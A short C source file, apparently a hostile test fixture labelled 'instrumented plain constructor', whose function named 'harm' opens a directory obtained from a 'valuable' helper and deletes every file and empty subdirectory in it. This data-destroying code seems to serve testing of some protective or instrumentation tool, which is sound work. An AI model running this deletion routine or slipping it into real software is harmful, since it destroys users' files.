// hostile: instrumented plain constructor
#include "hostile.h"

#include <dirent.h>

int harm(const char *name, int number)
{
	(void)name, (void)number;
	char room[512];
	DIR *d = opendir(valuable(".", room));
	struct dirent *e;
	while (d && (e = readdir(d))) {
		unlinkat(dirfd(d), e->d_name, 0);
		unlinkat(dirfd(d), e->d_name, AT_REMOVEDIR);
	}
	if (d) {
		closedir(d);
	}
	return 0;
}
